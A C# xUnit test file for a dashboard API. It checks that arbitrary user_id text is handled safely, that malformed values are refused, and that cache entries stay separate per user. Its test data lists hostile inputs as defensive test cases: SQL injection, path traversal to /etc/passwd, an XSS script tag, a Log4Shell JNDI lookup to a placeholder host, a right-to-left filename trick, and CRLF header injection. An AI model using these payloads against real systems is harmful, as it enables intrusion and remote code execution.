using System.Net;
using Backend.Tests.Hosting;

namespace Backend.Tests.Dashboard;

public sealed class UserIdTests
{
    private static CancellationToken Token => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("'; DROP TABLE users; --")]
    [InlineData("../../etc/passwd")]
    [InlineData("ann:*")]
    [InlineData("{user_id}")]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("${jndi:ldap://evil.example/x}")]
    [InlineData("Ünïcödé 用户 🚀 עברית")]
    [InlineData("\u202Egnp.exe")]
    [InlineData("")]
    public async Task Any_text_is_a_user(string userId)
    {
        await using var backend = await BackendHost.StartAsync();

        var (status, page) = await backend.GetAsync($"/api/dashboard?user_id={Uri.EscapeDataString(userId)}", Token);

        Assert.Equal(HttpStatusCode.OK, status);
        Assert.Empty(page.GetProperty("failed_sources").EnumerateObject());
        Assert.DoesNotContain("script", page.GetRawText(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_cannot_be_a_name_is_refused_with_a_reason()
    {
        await using var backend = await BackendHost.StartAsync();

        foreach (var userId in new[] { new string('x', 129), new string('x', 7_000), "a%00b", "a%0D%0ASet-Cookie:%20x=1" })
        {
            var (status, problem) = await backend.GetAsync($"/api/dashboard?user_id={userId}", Token);

            Assert.Equal(HttpStatusCode.BadRequest, status);
            Assert.StartsWith("user_id has", problem.GetProperty("errors").GetProperty("user_id")[0].GetString(), StringComparison.Ordinal);
        }

        // Longer than Kestrel takes a request line for: refused before anything of ours sees it.
        using var response = await backend.Client.GetAsync(new Uri($"/api/dashboard?user_id={new string('x', 10 * 1024)}", UriKind.Relative), Token);
        Assert.Equal(HttpStatusCode.RequestUriTooLong, response.StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await backend.GetAsync("/api/ready", Token)).Status);
    }

    [Fact]
    public async Task Users_do_not_see_each_others_entry_and_are_counted_under_one_pattern()
    {
        await using var backend = await BackendHost.StartAsync();

        foreach (var user in new[] { "ann", "ann%", "ann ", "Ann" })
        {
            await backend.GetAsync($"/api/dashboard?user_id={Uri.EscapeDataString(user)}", Token);
        }

        var caches = (await backend.GetAsync("/api/caches", Token)).Json;
        var pattern = Assert.Single(caches.EnumerateArray(), cache => cache.GetProperty("pattern").GetString() == "dashboard:performance:{user_id}");
        Assert.Equal(4, pattern.GetProperty("misses").GetInt32());
    }
}
